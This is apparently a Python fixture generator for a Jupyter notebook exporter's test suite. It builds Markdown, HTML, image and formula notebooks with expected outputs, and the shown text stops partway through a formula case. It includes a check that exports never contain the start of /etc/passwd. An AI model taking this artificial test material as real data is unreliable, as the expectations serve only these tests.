#!/usr/bin/env python3
r"""Makes the notebooks that the exporter is tested on, and `expected.json`, which says what their exports must hold.

    python3 make.py               writes everything beside this script
    python3 make.py --check       writes nothing; says which of the files beside this script differ
    python3 make.py --large DIR   writes into DIR what is too big or too odd for git (see `large`)

Needs only Python's standard library (3.9 or newer). Cell ids are fixed and nothing depends on the clock, so that every
run makes the same files; only the compressed bytes inside the PNGs could differ with another zlib than the usual one.

`notebooks/` holds ordinary notebooks, one construct or family each, and the pictures that they name. `hostile/` holds
notebooks that are broken or want to do harm. `outside.png` must not appear in any export: no notebook may reach it.

`expected.json` names the files by their paths from here. For each ordinary notebook it has
    text             what must be found in the PDF's text. Long things have words from their start, middle and end.
                     Compare after Unicode's NFKC (ligatures), without hyphens at the end of a line, and with all white
                     space removed on both sides: a line of code may break anywhere, an index stands on its own line.
    text_with_fonts  the same, but only where fonts for these scripts are at hand
    not_text         what must not be found
    images           how many pictures there are at least, drawings among them
    warnings         the kinds of warnings, each once, sorted; no others
    warning_counts   how often each of them applies at least
    min_pages        how many pages there are at least
    links            how many links there are at least, where that matters

For each hostile one,
    result           "error" (a message, no file), "page" (a file) or "either"; never a crash, nor more than seconds
    text, not_text   as above; not_text always holds what /etc/passwd begins with
    not_html         what the HTML export must not contain, as written here, case aside
    images_max       how many pictures there are at most, where that matters
    warnings         kinds that must be among the warnings, where that is clear
"""

import argparse
import base64
import copy
import json
import struct
import sys
import textwrap
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent
LEAK = "root:x:0:0"  # the beginning of /etc/passwd

WARNINGS = {
    "never-run": "a code cell with source that has no execution count",
    "no-output": "a cell that ran, ends in an expression without a semicolon, and has no outputs",
    "error": "a cell that ended in an error",
    "missing-image": "a picture that is not there",
    "remote-image": "a picture on another machine",
    "refused-image": "a picture outside the notebook's folder",
    "broken-image": "a picture that cannot be decoded",
    "formula": "a formula that could not be set",
    "unsupported-output": "an output that cannot be drawn and has nothing to fall back on",
    "not-executed": "no code cell of the notebook was ever run; then no never-run for each",
}


# ---------------------------------------------------------------------------------------------------------- pictures


def png(width, height, row, kind=2, palette=None, claim=None):
    """A PNG; `row(y)` gives the bytes of one row. `kind` is 2 (RGB), 3 (palette, a byte a pixel) or 6 (RGBA)."""

    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    data = zlib.compress(b"".join(b"\0" + row(y) for y in range(height)), 9)
    parts = [chunk(b"IHDR", struct.pack(">IIBBBBB", *(claim or (width, height)), 8, kind, 0, 0, 0))]
    if palette:
        parts.append(chunk(b"PLTE", bytes(value for colour in palette for value in colour)))
    parts += [chunk(b"IDAT", data), chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


PALETTE = [(255, 255, 255), (40, 40, 40), (40, 100, 180), (200, 90, 40), (60, 150, 90), (225, 225, 225)]


def bar_png(width, height, bars=9, seed=3):
    """A bar chart: white ground, a frame, coloured bars."""
    slot = width // bars
    tops = [height - height * (20 + (seed * 29 + index * index * 17 + index * 7) % 75) // 100 for index in range(bars)]

    def row(y):
        pixels = bytearray(width)
        for index, top in enumerate(tops):
            if y >= top:
                left = index * slot + slot // 5
                pixels[left : left + slot * 3 // 5] = bytes([2 + (index + seed) % 3]) * (slot * 3 // 5)
        if y in (0, height - 1):
            return b"\1" * width
        pixels[0] = pixels[-1] = 1
        return bytes(pixels)

    return png(width, height, row, 3, PALETTE)


def ladder_png(width, height, step=50):
    """Rungs, each a little longer than the last, so that a cut or squeezed picture is seen."""

    def row(y):
        if y in (0, height - 1):
            return b"\1" * width
        filled = (y // step + 1) * width // (height // step + 1)
        shade = 2 + (y // step) % 3 if y % step < step - 4 else 0
        return b"\1" + bytes([shade]) * (filled - 1) + b"\0" * (width - filled - 1) + b"\1"

    return png(width, height, row, 3, PALETTE)


def glass_png(width, height):
    """A disc on a transparent ground, half transparent itself at its rim."""

    def row(y):
        pixels = bytearray()
        for x in range(width):
            away = ((x - width / 2) ** 2 + (y - height / 2) ** 2) / (min(width, height) / 2) ** 2
            alpha = 255 if away < 0.6 else 128 if away < 1 else 0
            pixels += bytes((200, 60, 90, alpha))
        return bytes(pixels)

    return png(width, height, row, 6)


SMALL_JPEG = (  # 64 × 40, five bars
    "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAA0JCgsKCA0LCgsODg0PEyAVExISEyccHhcgLikxMC4pLSwzOko+MzZGNywtQFdBRkxOUlNSMj5aYVpQ"
    "YEpRUk//2wBDAQ4ODhMREyYVFSZPNS01T09PT09PT09PT09PT09PT09PT09PT09PT09PT09PT09PT09PT09PT09PT09PT09PT0//wAARCAAoAEAD"
    "ASIAAhEBAxEB/8QAGwAAAgIDAQAAAAAAAAAAAAAAAAYEBQIDBwH/xAAwEAABAwMBAwsEAwAAAAAAAAABAgQFAAMREgYxshMVITU2QVFVc5TRFGFx"
    "dDeCwv/EABgBAQEBAQEAAAAAAAAAAAAAAAMABQIE/8QAHhEAAwEBAAMAAwAAAAAAAAAAAQIDADEEERJBUbH/2gAMAwEAAhEDEQA/AHKFh4u7BsLl"
    "yNZrWttbUpSrCSSSkZJOKm8yRHlTH26PiiB7Pxv6trgFT6taBzJEeVMfbo+KOZIjypj7dHxWF2fi7N5dq460rQopUOTUcEdB7qsLVxF6yi7bOpC0"
    "hSTjGQekVyGU8O6KMo9kaFzJEeVMfbo+KOZIjypj7dHxW6TUpEW7WhRSpNlZBBwQdJpHjJF8uUaIW9cqSq8gEG6ogjUPvR0qEIHruWUDRSwPM5cy"
    "RHlTH26PioU1DxdqDf3LcazQtDa4pKk2EgghJwQcVeVAnuz8l+rd4DTYNpjXdhlsswcul6LSGtnUrBOMpSNw+5rJntBFPXKGzV1rurzpTyahnAzv"
    "I8BVVI/xzZ/Vb/4pb2Q7TNP78Cq9M4q0y5/GB6FXCjZSvW7z118RroEV1Qz9BHCK5/K9bvPXXxGmCUm3UNERH0tuyvlrA1coCcYSndgjxrM8NC9S"
    "o2t5zBZKTmCV6oeegvhNc/iut2fro4hTBFzbqZiJf6q3ZRyNg6eTBGcpVvyT4UvxXW7P10cQq8xClQp14LBpMRrHaPaCVZTjls1daLSNOlPJpOMp"
    "B3keJq3tO773YNy5dL13Vtb+pWAM41DcPsKVdr+0zv8ApwJpkjv45vfquP8Ada9lURUgfr+bHkxNCCdrW6YPdi28emUYWr5bWUkXXCU6SNJIPeNx"
    "qtgmLaNmLDy/NRCrdvVkIdAnpSR3/miivMtWVSo4czTVmDHevWTZw+cX0TUQE3bqlgF0M4JzUicstJFjG2LEzFJU1tFCyt0ACcJHRj8Giihiok32"
    "vc9qNZfhuYg7LSOYyVi/MxSlOrQQgodAgHCh05/IqOyZNm75vfXNRBTaupWQHQzgHNFFVlFW+27qNGivwvN5OsW0lMX3liaiE27mnAW6APQkDu/F"
    "WSHTBlsW4j1SjC7fDa8kC04SrUTqIA7zvFFFM1WZQp4MCzVWLDf/2Q=="
)
MOVING_GIF = (  # 32 × 20, two frames: bars, then red
    "R0lGODlhIAAUAIEAAP///yhktMhaKDw8PCH5BAAUAAAALAAAAAAgABQAAAiXAAcIHEiwoEABCBMiNCgQgMOHECMCUKhQYkOIATJqzPiQYkKL"
    "AyJu3NjRowCQIkdydGjyZMSLD1WunGgSJUaZJT3ajImTZU2HG0PeVJmTIs+MQo+OLFoRqMakTon61Bk1AFQAMgMw/Vj1atatCJV67UmTKtan"
    "KaWWNdo17dKpbM8idUsSblO5ViXq3csXJt+/exkKHjw4IAAh+QQBFAABACwAAAAAIAAUAIH/AAAAAAAAAAAAAAAIKwABCBxIsKDBgwgTKlzI"
    "sKHDhxAjSpxIsaLFixgzatzIsaPHjyBDihypMCAAOw=="
)


def text_of(data):
    return base64.b64encode(data).decode()


def svg(body, width=480, height=300, box=None, more=""):
    box = box or f"0 0 {width} {height}"
    return f'<svg xmlns="http://www.w3.org/2000/svg" width="{width}" height="{height}" viewBox="{box}"{more}>\n{body}</svg>\n'


def bar_svg(title, values, width=480, height=300):
    """A bar chart with a title, an axis and a number under each bar."""
    slot = (width - 60) / len(values)
    lines = [
        f'<rect width="{width}" height="{height}" fill="#ffffff"/>',
        f'<text x="{width / 2:g}" y="22" font-family="sans-serif" font-size="15" text-anchor="middle">{title}</text>',
        f'<path d="M40 36 V{height - 30} H{width - 20}" fill="none" stroke="#333333"/>',
    ]
    for index, value in enumerate(values):
        tall = (height - 80) * value / max(values)
        left = 46 + index * slot
        lines.append(
            f'<rect x="{left:.1f}" y="{height - 30 - tall:.1f}" width="{slot * 0.7:.1f}" height="{tall:.1f}" '
            f'fill="#2864b4"/>'
        )
        lines.append(
            f'<text x="{left + slot * 0.35:.1f}" y="{height - 14}" font-family="sans-serif" font-size="11" '
            f'text-anchor="middle">{index + 1}</text>'
        )
    return svg("\n".join(lines) + "\n", width, height)


def curve_svg(title, turns, width=480, height=300):
    """One curve through a few points, with a frame."""
    step = (width - 60) / (len(turns) - 1)
    points = " ".join(
        f"{40 + index * step:.1f},{height - 30 - (height - 70) * turn:.1f}" for index, turn in enumerate(turns)
    )
    return svg(
        f'<rect x="40" y="36" width="{width - 60}" height="{height - 66}" fill="none" stroke="#999999"/>\n'
        f'<text x="{width / 2:g}" y="22" font-family="sans-serif" font-size="15" text-anchor="middle">{title}</text>\n'
        f'<polyline points="{points}" fill="none" stroke="#c85a28" stroke-width="2"/>\n',
        width,
        height,
    )


# --------------------------------------------------------------------------------------------------------- notebooks

RUST = {
    "kernelspec": {"display_name": "Rust", "language": "rust", "name": "rust"},
    "language_info": {
        "file_extension": ".rs",
        "mimetype": "text/rust",
        "name": "Rust",
        "pygment_lexer": "rust",
        "version": "",
    },
}
PYTHON = {
    "kernelspec": {"display_name": "Python 3 (ipykernel)", "language": "python", "name": "python3"},
    "language_info": {
        "codemirror_mode": {"name": "ipython", "version": 3},
        "file_extension": ".py",
        "mimetype": "text/x-python",
        "name": "python",
        "nbconvert_exporter": "python",
        "pygments_lexer": "ipython3",
        "version": "3.11.7",
    },
}


def plain(text):
    """Text as people write it in this script: dedented, without the first and the last line break."""
    return textwrap.dedent(text).strip("\n")


def lines(text):
    """Text as Jupyter saves it: a list of lines that keep their ends."""
    return text.splitlines(keepends=True)


def stream(text, name="stdout", whole=False):
    return {"name": name, "output_type": "stream", "text": text if whole else lines(text)}


def bundle(data):
    """A MIME bundle as Jupyter saves it: text as lines, base64 and JSON as they are."""
    out = {}
    for mime, value in data.items():
        is_text = isinstance(value, str) and (
            mime.startswith("text/") or mime in ("image/svg+xml", "application/javascript")
        )
        out[mime] = lines(value) if is_text else text_of(value) if isinstance(value, bytes) else value
    return out


def shown(data, **metadata):
    return {"data": bundle(data), "metadata": metadata, "output_type": "display_data"}


def result(data, **metadata):
    """The value of a cell; the execution count is filled in by `Notebook.code`."""
    data = {"text/plain": data} if isinstance(data, str) else data
    return {"data": bundle(data), "execution_count": None, "metadata": metadata, "output_type": "execute_result"}


def error(name, value, traceback):
    return {"ename": name, "evalue": value, "output_type": "error", "traceback": traceback}


class Notebook:
    """A notebook of format 4.5, cell by cell."""

    def __init__(self, metadata=RUST, **more):
        self.cells, self.count = [], 0
        self.metadata = {**copy.deepcopy(metadata), **more}

    def add(self, kind, text, metadata, **fields):
        name = {"markdown": "text", "code": "code", "raw": "raw"}.get(kind, "cell")
        cell = {"cell_type": kind, "id": f"{name}-{len(self.cells) + 1:02}", "metadata": metadata, **fields}
        cell["source"] = lines(text) if isinstance(text, str) else text
        self.cells.append(cell)
        return cell

    def markdown(self, text, attachments=None, **metadata):
        fields = {"attachments": attachments} if attachments else {}
        return self.add("markdown", plain(text), metadata, **fields)

    def exact(self, text, **metadata):
        """A Markdown cell whose text is taken as it is."""
        return self.add("markdown", text, metadata)

    def code(self, text, *outputs, run=True, exact=False, **metadata):
        if run:
            self.count += 1
        for output in outputs:
            if output.get("output_type") == "execute_result":
                output["execution_count"] = self.count
        text = text if exact or not isinstance(text, str) else plain(text)
        return self.add("code", text, metadata, execution_count=self.count if run else None, outputs=list(outputs))

    def raw(self, text, **metadata):
        return self.add("raw", plain(text), metadata)

    def json(self):
        return {"cells": self.cells, "metadata": self.metadata, "nbformat": 4, "nbformat_minor": 5}


FILES = {}  # path → bytes
EXPECTED = {}  # file → what must hold


def save(path, value):
    if isinstance(value, Notebook):
        value = value.json()
    if not isinstance(value, (bytes, str)):
        value = json.dumps(value, ensure_ascii=False, indent=1) + "\n"
    FILES[path] = value if isinstance(value, bytes) else value.encode()


def case(name, text=(), not_text=(), images=0, warnings=(), min_pages=1, **more):
    """Marks a function that fills a notebook (or returns one) with what its export must hold."""

    def register(fill):
        book = Notebook()
        book = fill(book) or book
        save(f"notebooks/{name}.ipynb", book)
        assert all(kind in WARNINGS for kind in warnings), name
        EXPECTED[f"notebooks/{name}.ipynb"] = {
            "text": list(text),
            "not_text": list(not_text),
            "images": images,
            "warnings": sorted(set(warnings)),
            "warning_counts": {kind: list(warnings).count(kind) for kind in sorted(set(warnings))},
            "min_pages": min_pages,
            **more,
        }
        return fill

    return register


PRELUDE = ':dep latentlab = { path = ".." }\nuse latentlab::prelude::*;'


# ---------------------------------------------------------------------------------------------------------- Markdown


@case(
    "01_headings",
    text=[
        "Level one: estimators", "Level two", "Level three", "Level four", "Level five", "Level six",
        "Underlined twice", "Underlined once", "closing hashes", "Vec<f64> in a heading", "bold and slanted",
        "after the last heading",
    ],
    not_text=["##", "====", "----"],
)
def headings(book):
    book.markdown("# Level one: estimators\n\nA sentence below it.")
    book.markdown(
        "## Level two\n### Level three\n#### Level four\n##### Level five\n###### Level six\nText right below."
    )
    book.markdown("Underlined twice\n================\n\nUnderlined once\n---------------")
    book.markdown(
        "## closing hashes ##\n\n### `Vec<f64>` in a heading\n\n## **bold** and *slanted*\n\nEnd, after the last heading."
    )


@case(
    "02_many_headings",
    text=["Chapter 1:", "Chapter 30:", "Chapter 60:", "Section 60.1", "Sentence of section 37.1"],
    min_pages=2,
)
def many_headings(book):
    for chapter in range(1, 61):
        book.markdown(
            f"# Chapter {chapter}: sample {chapter}\n\n## Section {chapter}.1\n\nSentence of section {chapter}.1, no more."
        )


@case(
    "03_emphasis",
    text=[
        "slanted star", "slanted underline", "heavy star", "heavy underline", "both at once", "struck out",
        "snake_case_name stays", "2 * 3 * 4 stays", "*literal stars*", "part of a word",
    ],
    not_text=["**", "~~", "__"],
)
def emphasis(book):
    book.markdown(r"""
        A *slanted star*, a _slanted underline_, a **heavy star**, a __heavy underline__.

        ***both at once***, and ~~struck out~~ by a line.

        The name snake_case_name stays as it is, and 2 * 3 * 4 stays, too.

        Escaped: \*literal stars\*. Emphasis **par**t of a word: par*t of a wor*d.

        - **Bias:** the error that *no* amount of data removes
        - ***Variance:*** the error that **more *data* removes**
    """)


@case(
    "04_inline_code",
    text=[
        "let x = 5;", "a`b", "Option<Box<dyn Fn(f64) -> f64>>", "*no stars*", "$not math$", "&amp;", "C:\\data",
        "#[derive(Debug)]", "<b>not bold</b>", "tail_of_the_long_one",
    ],
)
def inline_code(book):
    book.markdown(r"""
        Write `let x = 5;` first. A backtick inside: ``a`b``.

        The type `Option<Box<dyn Fn(f64) -> f64>>` is boxed. Nothing happens in `*no stars*` and `$not math$`.

        Entities stay: `&amp;`. A path: `C:\data`. An attribute: `#[derive(Debug)]`. Markup: `<b>not bold</b>`.

        A long one: `covariance.inverse().unwrap().diagonal().iter().map(|entry| entry.sqrt()).collect::<Vec<f64>>().tail_of_the_long_one`.

        **`bold code`**, [`linked code`](https://docs.rs/), ~~`struck code`~~
    """)


@case(
    "05_nested_lists",
    text=[
        "Prepare the sample", "drop the gaps", "weekends too", "let kept = prices.filter(complete);",
        "second paragraph of the item", "Fit the model", "by cross validation", "five folds", "folds = 5", "Report",
        "last bullet",
    ],
    not_text=["```"],
)
def nested_lists(book):
    book.markdown("""
        1. Prepare the sample
           - drop the gaps
             - holidays
             - weekends too
           - take logarithms

           ```rust
           let kept = prices.filter(complete);
           ```
        2. Fit the model

           A second paragraph of the item stands under it.

           * choose the penalty
             1. by cross validation
                + five folds

                      folds = 5

                + ten folds
             2. by the information criterion
        3. Report
           > A quotation inside an item.

           | fold | loss |
           |-----:|-----:|
           | 1    | 0.31 |

        A paragraph between two lists.

        * star
        + plus
        - last bullet
    """)


@case(
    "06_list_numbers",
    text=[
        "3. third", "4. fourth", "0. zeroth", "99. ninety-nine", "100. hundred", "tight one", "loose one", "loose two",
    ],
)
def list_numbers(book):
    book.markdown("""
        3. third of the steps
        4. fourth of the steps

        Text

        0. zeroth
        1. first

        Text

        99. ninety-nine
        100. hundred

        Text

        - tight one
        - tight two

        Text

        - loose one

        - loose two

        Text

        1) with a parenthesis
        2) and again
    """)


@case("07_task_lists", text=["read the data", "fit the model", "write it up", "a nested task"], not_text=["[ ]", "[x]"])
def task_lists(book):
    book.markdown("""
        ## To do

        - [x] read the data
        - [X] fit the model
          - [ ] a nested task
        - [ ] write it up
        - an item without a box
    """)


@case(
    "08_tables",
    text=["ledoit", "glasso", "0.4182", "a|b", "Vec<u8>", "empty to the right", "one column"],
    not_text=["|--", "|:-", "--:|"],
)
def tables(book):
    book.markdown(r"""
        | left | middle | right |
        |:-----|:------:|------:|
        | ledoit | shrinks | 0.4182 |
        | **glasso** | *sparse* | 12.5 |
        | `Vec<u8>` | ~~old~~ | -3 |
    """)
    book.markdown(r"""
        Pipes in cells:

        code | meaning
        --- | ---
        `a\|b` | either bit
        x \| y | a bar
        $\alpha$ | a Greek letter, $P(a \mid b)$ a probability
        [a link](https://docs.rs/) | line<br>break
        empty to the right |
    """)
    book.markdown("| one column |\n|---|\n| only |\n\nA table without rows:\n\n| head | only |\n|---|---|\n")


@case("09_wide_tables", text=["h1x", "h12x", "r1c1", "r1c12", "r4c7", "r8c12", "alpha1", "mid5", "omega9"])
def wide_tables(book):
    head = " | ".join(f"h{column}x" for column in range(1, 13))
    rows = [" | ".join(f"r{row}c{column}" for column in range(1, 13)) for row in range(1, 9)]
    book.markdown(
        "Twelve columns:\n\n| " + head + " |\n|" + "---|" * 12 + "\n" + "\n".join(f"| {row} |" for row in rows)
    )
    filler = "a sentence about shrinkage that goes on and on so that its cell needs several lines "
    book.markdown(
        "One long cell:\n\n| term | meaning |\n|------|---------|\n"
        f"| ridge | alpha1 {filler * 3} mid5 {filler * 3} omega9 |\n| lasso | short |"
    )


@case(
    "10_links",
    text=[
        "inline link", "titled link", "reference link", "shortcut", "https://www.rust-lang.org/", "mail@example.com",
        "www.example.com", "no link here", "wiki/Beta_(finance)", "last link",
    ],
    not_text=["](", "[ref]:"],
    links=8,
)
def links(book):
    book.markdown("""
        An [inline link](https://docs.rs/ndarray), a [titled link](https://docs.rs/rand "random numbers"), a
        [reference link][ref], a [shortcut], an autolink <https://www.rust-lang.org/>, a mail <mail@example.com>.

        Bare: www.example.com and https://en.wikipedia.org/wiki/Beta_(finance).

        Escaped: \\[no link here\\]. To a [file beside](06_list_numbers.ipynb). With [**bold** and `code`](https://docs.rs/).

        With a query: [last link](https://example.com/?a=1&b=2#part-3 'single quotes').

        [ref]: https://docs.rs/statrs
        [shortcut]: <https://docs.rs/polars> "frames"
    """)


@case(
    "11_anchors",
    text=["Fitting the model", "What is left?", "jump to the fit", "jump to the end", "Schätzung", "A named place"],
    not_text=["](#", "<a "],
    links=5,
)
def anchors(book):
    book.markdown("""
        # Contents

        - [jump to the fit](#Fitting-the-model)
        - [jump to the end](#What-is-left?)
        - [German](#Schätzung)
        - [escaped German](#Sch%C3%A4tzung)
        - [a name](#named-place)
        - [nowhere](#there-is-no-such-heading)
        - [second of two](#Twice)
    """)
    book.markdown("## Fitting the model\n\nText.")
    book.markdown("## Schätzung\n\nText.\n\n## Twice\n\n## Twice")
    book.markdown('<a id="named-place"></a>\nA named place.\n\n## What is left?\n\n[back to the top](#Contents)')


@case(
    "12_quotes",
    text=[
        "outer quotation", "inner quotation", "third level", "lazy continuation", "quoted item", "quoted code line",
        "after the quotations",
    ],
    not_text=[">"],
)
def quotes(book):
    book.markdown("""
        > An outer quotation
        >
        > > An inner quotation
        > >
        > > > Even a third level
        >
        > back on the first
        lazy continuation of it

        > - a quoted item
        >   1. numbered
        >
        > ```rust
        > let quoted = "quoted code line";
        > ```
        >
        > ### Quoted heading

        Text after the quotations.
    """)


@case(
    "13_rules_and_breaks",
    text=[
        "above the first rule", "below the first rule", "hard break", "next line", "backslash break", "following line",
        "at the end",
    ],
    not_text=["***", "___", "- - -"],
)
def rules_and_breaks(book):
    book.exact(
        "above the first rule\n\n---\n\nbelow the first rule\n\n***\n\nbetween\n\n___\n\n- - -\n\n"
        "hard break  \nnext line\n\nbackslash break\\\nfollowing line\n\nsoft break\nsame paragraph\n\nat the end"
    )


@case(
    "14_fenced_code",
    text=[
        "fn median(values: &mut [f64])", "def median(values):", "learning_rate", "cargo build", "an unknown language",
        "no language at all", "indented code block", "tilde fence", "```nested```", "last line of all",
    ],
    not_text=["~~~"],
)
def fenced_code(book):
    book.markdown("""
        ```rust
        fn median(values: &mut [f64]) -> f64 {
            values.sort_by(f64::total_cmp);
            values[values.len() / 2] // the upper one of two
        }
        ```

        ```python
        def median(values):
            return sorted(values)[len(values) // 2]
        ```

        ```json
        {"learning_rate": 0.01, "layers": [64, 32], "bias": true, "seed": null}
        ```

        ```bash
        for crate in core cli; do cargo build -p "$crate" || exit 1; done
        ```

        ```brainteaser
        an unknown language <here> & *there*
        ```

        ```
        no language at all
        ```

            indented code block
                with more indentation

        ~~~
        tilde fence with ```nested``` backticks
        ~~~

        ``` rust,ignore
        last line of all
        ```
    """)


@case(
    "15_footnotes",
    text=[
        "shrinkage intensity", "Between zero and one", "another remark", "Two paragraphs", "second of them", "marker",
    ],
    not_text=["[^"],
)
def footnotes(book):
    book.markdown("""
        The shrinkage intensity[^rho] is estimated, and so is its error[^long]. Again the same marker[^rho].

        [^rho]: Between zero and one, in most samples.

        [^long]: Two paragraphs, of which this is the first, another remark.

            The second of them has `code`.
    """)


# -------------------------------------------------------------------------------------------------- HTML in Markdown


@case(
    "16_inline_html",
    text=[
        "line one", "line two", "H2O", "10th power", "heavy words", "under words", "marked words", "Ctrl+C",
        "red words", "tiny words", "struck words", "quoted words", "tail & more", "less < than", "café", "nbsp apart",
    ],
    not_text=["<sub>", "</", "<br", "color:", "&lt;", "&eacute;"],
)
def inline_html(book):
    book.markdown("""
        line one<br>line two<br/>line three

        H<sub>2</sub>O and the 10<sup>th</sup> power

        <b>heavy words</b>, <i>slanted words</i>, <u>under words</u>, <mark>marked words</mark>, <kbd>Ctrl</kbd>+<kbd>C</kbd>

        <span style="color:red">red words</span>, <span style='color: #2864b4; font-weight: bold'>blue words</span>,
        <font color="green">green words</font>, <small>tiny words</small>, <del>struck words</del>, <q>quoted words</q>

        <strong>a *mix* of `both`</strong> and <em>**others**</em>, <code>let html = 1;</code>, <a href="https://docs.rs/">an HTML link</a>

        Entities: tail &amp; more, less &lt; than, caf&eacute;, &#955; and &#x3bc;, nbsp&nbsp;apart
    """)


@case(
    "17_html_blocks",
    text=[
        "centred words", "right words", "summary words", "hidden at first", "nested list item", "cell spanning columns",
        "cellspanningrows", "last cell", "with Markdown inside", "definition words", "preformatted",
    ],
    not_text=["colspan", "<td", "</", "align="],
)
def html_blocks(book):
    book.markdown("""
        <center>centred words</center>

        <div align="right">right words</div>

        <div style="background: #eef; padding: 1em; border-left: 3px solid #2864b4">
        A box in HTML,

        **with Markdown inside** it.
        </div>

        <details>
        <summary>summary words</summary>

        These are hidden at first in a browser, and must be on paper:

        - an item
        </details>

        <ul><li>list item<ol><li>nested list item</li></ol></li></ul>

        <dl><dt>Bias</dt><dd>definition words</dd></dl>

        <pre>preformatted
          two   spaces</pre>

        <p align="center"><b>Last</b> paragraph</p>
    """)
    book.markdown("""
        <table border="1">
          <caption>Losses</caption>
          <thead><tr><th colspan="2">cell spanning columns</th><th>c</th></tr></thead>
          <tbody>
            <tr><td rowspan="2">cellspanningrows</td><td>1</td><td>2</td></tr>
            <tr><td>3</td><td style="text-align:right">last cell</td></tr>
          </tbody>
        </table>
    """)


@case(
    "18_html_unseen",
    text=[
        "before the comment", "after the comment", "before the script", "after the script", "after the style",
        "the end of it",
    ],
    not_text=["secretcomment", "several lines of it", "secretscript", "secretstyle", "secrettitle", "-->", "<!--"],
)
def html_unseen(book):
    book.markdown("""
        before the comment <!-- secretcomment --> after the comment

        <!--
        several lines of it

        secretcomment
        -->

        before the script

        <script>
        const secretscript = 1 < 2;
        document.write("secretscript");
        </script>

        after the script

        <style>
        .secretstyle { color: red; }
        </style>

        after the style <span title="secrettitle">with a title</span>

        <div><!-- secretcomment --><span hidden></span></div>

        the end of it
    """)


# ------------------------------------------------------------------------------------------------ pictures in Markdown


@case(
    "19_images_attached",
    text=["above the attachment", "below the attachment", "between spaces", "the last words"],
    not_text=["(attachment:", "data:image", "]("],
    images=5,
)
def images_attached(book):
    picture = text_of(bar_png(180, 100, 6, 1))
    other = text_of(bar_png(160, 90, 5, 2))
    book.markdown(
        "above the attachment\n\n![bars](attachment:bars.png)\n\nbelow the attachment",
        attachments={"bars.png": {"image/png": picture}},
    )
    book.markdown(
        """
        ![my plot](attachment:my%20plot.png)

        between spaces

        ![my plot](<attachment:my plot.png>)
        """,
        attachments={"my plot.png": {"image/png": other}},
    )
    book.markdown(
        """
        An `img` of an attachment: <img src="attachment:grün (1).png" width="90" alt="green">

        Inline ![dot](attachment:dot.jpg "a title") in a sentence, the last words.
        """,
        attachments={"grün (1).png": {"image/png": other}, "dot.jpg": {"image/jpeg": SMALL_JPEG}},
    )


@case(
    "20_images_files",
    text=["beside the notebook", "with a width", "in a table", "as a link", "the last words"],
    not_text=["images/", "data:image", "]("],
    images=10,
    links=1,
)
def images_files(book):
    save("notebooks/images/bars.png", bar_png(240, 140))
    save("notebooks/images/two words.png", bar_png(200, 110, 7, 5))
    save("notebooks/images/photo.jpg", base64.b64decode(SMALL_JPEG))
    save("notebooks/images/curve.svg", curve_svg("A curve in a file", [0.1, 0.5, 0.45, 0.8, 0.95]))
    save("notebooks/images/moving.gif", base64.b64decode(MOVING_GIF))
    save("notebooks/images/UPPER.PNG", bar_png(120, 70, 4, 8))
    book.markdown("""
        Files beside the notebook:

        ![bars](images/bars.png)
        ![two words](images/two%20words.png)
        ![photo](./images/photo.jpg)

        ![curve](images/curve.svg "a drawing")

        ![moving](images/../images/moving.gif) ![upper](images/UPPER.PNG)
    """)
    book.markdown("""
        <img src="images/bars.png" width="120"> with a width, and <img src='images/bars.png' style="width: 50%" />

        | in a table |
        |---|
        | ![bars](images/bars.png) |

        [![as a link](images/UPPER.PNG)](https://docs.rs/) as a link, the last words
    """)


@case(
    "21_images_not_there",
    text=[
        "first missing plot", "second missing plot", "a remote logo", "text that only claims", "one good picture",
        "the last words",
    ],
    images=2,
    warnings=["missing-image", "missing-image", "missing-image", "remote-image", "remote-image", "broken-image"],
)
def images_not_there(book):
    save("notebooks/images/notes.png", "These are notes, whatever the name says.\n")
    book.markdown(f"""
        Two that are missing: ![first missing plot](images/nowhere.png) and <img src="images/gone.svg" alt="second missing plot">.

        ![a remote logo](https://example.com/logo.png) and <img src="http://example.com/photo.jpg">

        ![text that only claims](images/notes.png) to be a picture

        ![no such attachment](attachment:never.png)

        ![small](data:image/png;base64,{text_of(bar_png(90, 60, 4, 6))}) from a data address, one good picture

        <img src="data:image/png;base64,{text_of(bar_png(80, 50, 3, 7))}"> and the last words
    """)


# ----------------------------------------------------------------------------------------------------------- formulas


@case(
    "22_math",
    text=["The estimator", "is unbiased", "penalty", "th moment", "after all formulas"],
    not_text=["$", "\\frac", "\\sum", "\\text", "\\left"],
)
def math(book):
    book.markdown(r"""
        The estimator $\hat{\mu} = \frac{1}{n} \sum_{i=1}^{n} x_i$ is unbiased, and $k$-th moments ($m_k$) are not; the $(k+1)$th moment neither.

        $$ \hat{\Sigma} = \frac{1}{n-1} \sum_{i=1}^{n} (x_i - \bar{x})(x_i - \bar{x})^\top $$

        $$
        L(w) = \underbrace{\left\| y - X w \right\|_2^2}_{\text{fit}} + \lambda \overbrace{\| w \|_1}^{\text{penalty}}
        $$

        Others: $\sqrt[3]{x}$, $\binom{n}{k}$, $\int_0^\infty e^{-x^2/2}\,dx$, $\mathcal{N}(\mathbf{0}, \mathbf{I})$, $\mathbb{R}^{p \times p}$,
        $\lim_{n \to \infty}$, $\operatorname{tr}(A)$, $\arg\max_\theta \ell(\theta)$, $x \in A \cup B \subseteq C$, $\overline{X} \perp Y \mid Z$,
        $\dot{x}, \tilde{x}, \vec{x}, \widehat{xy}$, $a \le b \ne c \approx d \gg e$, $\Pr(X > 1)$, $f'(x)$, $90^\circ$, $\lfloor x \rfloor$, $\ldots\cdots$

        Text after all formulas.
    """)


@case(
    "23_math_environments",
    text=["(7)", "(score)", "otherwise", "one more sentence"],
    not_text=["\\begin", "\\end", "\\tag", "\\label", "align", "pmatrix", "&="],
)
def math_environments(book):
    book.markdown(r"""
        With tags:

        $$
        \begin{align}
        \nabla_\mu \ell &= \Sigma^{-1} (x - \mu) \tag{7} \label{eq:mean} \\
        \nabla_\Sigma \ell &= -\tfrac{1}{2} \Sigma^{-1} \tag{score}
        \end{align}
        $$

        Outside of dollars:

        \begin{align}
        a &= b + c \\
          &= d
        \end{align}

        \begin{equation*}
        \operatorname{Var}(X) = \mathbb{E}[X^2] - \mathbb{E}[X]^2
        \end{equation*}

        \begin{gather}
        x + y = 1 \\
        x - y = 0
        \end{gather}

        one more sentence
    """)
    book.markdown(r"""
        $$
        S_\lambda(z) = \begin{cases} z - \lambda & z > \lambda \\ 0 & |z| \le \lambda \\ z + \lambda & \text{otherwise} \end{cases}
